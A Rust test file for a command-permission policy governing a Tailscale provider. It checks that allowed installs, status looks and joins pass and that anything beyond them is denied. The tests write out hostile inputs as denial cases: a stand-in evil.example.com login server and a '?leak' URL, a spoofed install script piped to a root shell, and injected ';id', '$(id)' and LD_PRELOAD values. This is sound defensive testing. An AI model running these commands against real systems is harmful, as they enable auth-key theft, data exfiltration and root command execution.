//! What the built-in provider may do: everything that it needs, nothing beside it, and no grant that nobody needs.
//!
//! That its every command passes, over all states of the model, is held where they are made, in the provider's own tests.

use std::sync::LazyLock;
use std::time::Duration;

use boundary::command::{Chunk, Command, Condition, Mode};
use boundary::grant::{Rights, Verb};
use serde_json::{Value, json};
use stagecraft_net::engine::{Engine, Options};
use stagecraft_net::registry::Registry;

static RIGHTS: LazyLock<Rights> = LazyLock::new(|| {
    let engine = Engine::new(Options::default()).expect("an engine");
    let registry = Registry::builtin(&engine).expect("the built-in providers");
    registry.get("tailscale").expect("it is built in").policy().rights().clone()
});

const DOWNLOAD: &str = "curl -fsSL --connect-timeout 15 --max-time 120 --retry 3 https://tailscale.com/install.sh";
const CONTROL: &str = "curl -fsS -o /dev/null --connect-timeout 5 --max-time 10 --request-target /key?v=116";
const JOIN: &str = "tailscale up --auth-key=file:/dev/stdin --timeout=60s";

fn user(line: &str) -> Command {
    Command {
        argv: line.split(' ').map(str::to_owned).collect(),
        env: Vec::new(),
        stdin: Vec::new(),
        as_root: false,
        timeout: Duration::from_secs(1),
        runs: Condition::Ok,
        accepted: Vec::new(),
    }
}

fn root(line: &str) -> Command {
    Command { as_root: true, ..user(line) }
}

fn join(line: &str) -> Command {
    let stdin = vec![Chunk::Secret("auth-key".to_owned()), Chunk::Bytes(b"\n".to_vec())];
    Command { stdin, ..root(line) }
}

fn install(env: &[&str]) -> Command {
    let env = env.iter().map(|name| ((*name).to_owned(), "x".to_owned())).collect();
    Command { stdin: vec![Chunk::StdoutOf(0)], env, ..root("sh -s") }
}

fn saas() -> Value {
    json!({"auth_key_env": "K", "tailnet_domain": "example.ts.net"})
}

fn headscale() -> Value {
    json!({"auth_key_env": "K", "tailnet_domain": "mesh.example.com", "login_server": "https://hs.example.com"})
}

fn decide(rights: &Rights, mode: Mode, batch: &[Command], config: &Value) -> Result<Vec<Verb>, String> {
    let value = |pointer: &str| config.pointer(pointer)?.as_str().map(str::to_owned);
    rights.decide(mode, batch, &value).map_err(|denial| denial.to_string())
}

/// Looks, each in a batch of its own.
fn looks() -> Vec<(Command, Value)> {
    let plain = [
        "cat /etc/os-release",
        "uname -s",
        "tailscale version",
        "tailscale status --json --peers=false",
        "tailscale debug prefs",
        "systemctl show tailscaled.service --no-pager -p LoadState,ActiveState,SubState,UnitFileState,FragmentPath",
        "dpkg-query -s tailscale tailscale-archive-keyring",
        DOWNLOAD,
    ];
    let mut looks: Vec<_> = plain.into_iter().map(|line| (user(line), saas())).collect();
    looks.push((root("true"), saas()));
    looks.push((user(&format!("{CONTROL} https://controlplane.tailscale.com")), saas()));
    looks.push((user(&format!("{CONTROL} https://hs.example.com")), headscale()));
    looks
}

/// Changing batches.
fn changes() -> Vec<(Vec<Command>, Value)> {
    let plain = [
        "dpkg --configure -a",
        "apt-get install --reinstall -y tailscale",
        "apt-get install --reinstall -y tailscale tailscale-archive-keyring",
        "systemctl unmask tailscaled.service",
        "systemctl enable --now tailscaled.service",
        "systemctl restart tailscaled.service",
        "tailscale up",
        "tailscale up --timeout=60s --hostname=app-1 --accept-routes=false --advertise-tags=",
        "tailscale logout",
    ];
    let mut changes: Vec<_> = plain.into_iter().map(|line| (vec![root(line)], saas())).collect();
    let kept = "--hostname=app-1 --accept-routes=true --accept-dns=false --advertise-exit-node --advertise-connector \
                --advertise-routes=10.0.0.0/8 --exit-node=100.64.0.9 --exit-node-allow-lan-access --netfilter-mode=off \
                --operator=deploy --report-posture --shields-up --snat-subnet-routes=false --ssh --stateful-filtering \
                --advertise-tags=tag:a,tag:b --force-reauth";
    changes.push((vec![join(&format!("{JOIN} {kept}"))], saas()));
    changes.push((vec![join(&format!("{JOIN} --login-server=https://hs.example.com --hostname=app-1"))], headscale()));
    changes.push((
        vec![user(DOWNLOAD), install(&["DEBIAN_FRONTEND", "NEEDRESTART_MODE", "APT_LISTCHANGES_FRONTEND"])],
        saas(),
    ));
    changes
}

#[test]
fn the_built_in_provider_is_granted_exactly_what_it_asks_for() {
    let asked: Vec<String> = RIGHTS.asked().iter().map(ToString::to_string).collect();
    let given: Vec<String> = RIGHTS.given().iter().map(|line| line.grant.to_string()).collect();
    assert_eq!(asked, given, "left: descriptor.json, right: tailscale.grants");
    assert!(RIGHTS.given().iter().all(|line| !line.grant.shape.is_open()), "no `**`");
}

#[test]
fn what_it_needs_passes_and_a_change_is_never_probed() {
    for (look, config) in looks() {
        assert_eq!(
            decide(&RIGHTS, Mode::Probe, std::slice::from_ref(&look), &config),
            Ok(vec![Verb::Look]),
            "{look:?}"
        );
        assert_eq!(decide(&RIGHTS, Mode::Run, &[look], &config), Ok(vec![Verb::Look]));
    }
    for (batch, config) in changes() {
        let verbs = decide(&RIGHTS, Mode::Run, &batch, &config).unwrap();
        assert_eq!(verbs.last(), Some(&Verb::Change), "{batch:?}");
        assert!(decide(&RIGHTS, Mode::Probe, &batch, &config).is_err(), "{batch:?}");
    }
}

#[test]
fn every_grant_is_needed_by_something() {
    for place in 0..RIGHTS.given().len() {
        let mut given = RIGHTS.given().to_vec();
        let without = given.remove(place);
        let rights = Rights::new(RIGHTS.asked().to_vec(), given);
        let looks = looks().into_iter().map(|(look, config)| (vec![look], config));
        let needed = looks.chain(changes()).any(|(batch, config)| decide(&rights, Mode::Run, &batch, &config).is_err());
        assert!(needed, "line {}: `{}`", without.line, without.text);
    }
}

#[test]
fn a_step_beyond_any_command_that_passes_is_denied() {
    let looks = looks().into_iter().map(|(look, config)| (vec![look], config));
    for (batch, config) in looks.chain(changes()) {
        let last = batch.len() - 1;
        let mut beyond: Vec<Command> = Vec::new();
        let original = &batch[last];
        for word in [
            "",
            "x",
            "-x",
            "--x",
            "--reset",
            "--login-server=https://evil.example.com",
            "|",
            ";id",
            "$(id)",
            "\u{2010}x",
        ] {
            let mut longer = original.clone();
            longer.argv.push(word.to_owned());
            beyond.push(longer);
        }
        if original.argv.len() > 2 {
            // A flag that stood already stands once more.
            let mut twice = original.clone();
            twice.argv.push(original.argv[2].clone());
            beyond.push(twice);
        }
        for program in ["/tmp/tailscale", "sudo", "env", "bash", ""] {
            let mut other = original.clone();
            other.argv[0] = program.to_owned();
            beyond.push(other);
        }
        for name in ["LD_PRELOAD", "PATH", "TS_DEBUG", "HTTPS_PROXY"] {
            let mut with = original.clone();
            with.env.push((name.to_owned(), "x".to_owned()));
            beyond.push(with);
        }
        let secret = Chunk::Secret("auth-key".to_owned());
        if original.stdin.is_empty() {
            beyond.push(Command { stdin: vec![Chunk::Bytes(b"id\n".to_vec())], ..original.clone() });
            beyond.push(Command { stdin: vec![secret], ..original.clone() });
        } else {
            beyond.push(Command {
                stdin: [original.stdin.clone(), vec![Chunk::StdoutOf(0)]].concat(),
                ..original.clone()
            });
            beyond.push(Command { stdin: vec![Chunk::Secret("other".to_owned())], ..original.clone() });
        }
        if !original.as_root {
            beyond.push(Command { as_root: true, ..original.clone() });
        }
        for command in beyond {
            let mut batch = batch.clone();
            batch[last] = command;
            assert!(decide(&RIGHTS, Mode::Run, &batch, &config).is_err(), "{:?}", batch[last]);
        }
    }
}

#[test]
fn the_ways_to_steal_root_the_traffic_or_the_key_are_denied() {
    let denied =
        |batch: &[Command], config: &Value| assert!(decide(&RIGHTS, Mode::Run, batch, config).is_err(), "{batch:?}");
    // The key to another control server, or to the default one where the config names its own.
    denied(&[join(&format!("{JOIN} --login-server=https://evil.example.com"))], &saas());
    denied(&[join(&format!("{JOIN} --login-server=https://evil.example.com"))], &headscale());
    denied(&[join(&format!("{JOIN} --hostname=app-1"))], &headscale());
    // The key anywhere else, or on an argument list.
    denied(&[join("tailscale up")], &saas());
    denied(&[join("cat /etc/os-release")], &saas());
    denied(&[root("tailscale up --auth-key=tskey-auth-x --timeout=60s")], &saas());
    denied(&[join("tailscale up --auth-key=file:/dev/stdin")], &saas());
    // Root's shell, with anything but the whole official script.
    let shell = install(&[]);
    denied(&[user(&DOWNLOAD.replace("tailscale.com", "tailscale.com.evil.example")), shell.clone()], &saas());
    denied(&[user("cat /etc/os-release"), shell.clone()], &saas());
    denied(&[Command { accepted: vec![0, 18], ..user(DOWNLOAD) }, shell.clone()], &saas());
    denied(
        &[user(DOWNLOAD), Command { stdin: vec![Chunk::Bytes(b"id\n".to_vec()), Chunk::StdoutOf(0)], ..shell.clone() }],
        &saas(),
    );
    denied(&[user(DOWNLOAD), Command { argv: vec!["sh".into(), "-c".into(), "id".into()], ..shell }], &saas());
    // A probe of the control server as a way to send something out, or to write a file.
    denied(&[user(&format!("{CONTROL} https://evil.example.com/?leak"))], &saas());
    denied(&[user(&format!("{CONTROL} https://hs.example.com"))], &saas());
    denied(&[user(&format!("{CONTROL} https://hs.example.com").replace("/dev/null", "/tmp/x"))], &headscale());
    // Values that are no values.
    for flag in [
        "--hostname=",
        "--hostname=a b",
        "--hostname=a\nb",
        "--advertise-tags=x",
        "--netfilter-mode=on",
        "--ssh=true",
        "--hostname",
        "app-1",
        "-hostname=a",
    ] {
        let mut up = join(JOIN);
        up.argv.push(flag.to_owned());
        denied(&[up], &saas());
    }
}
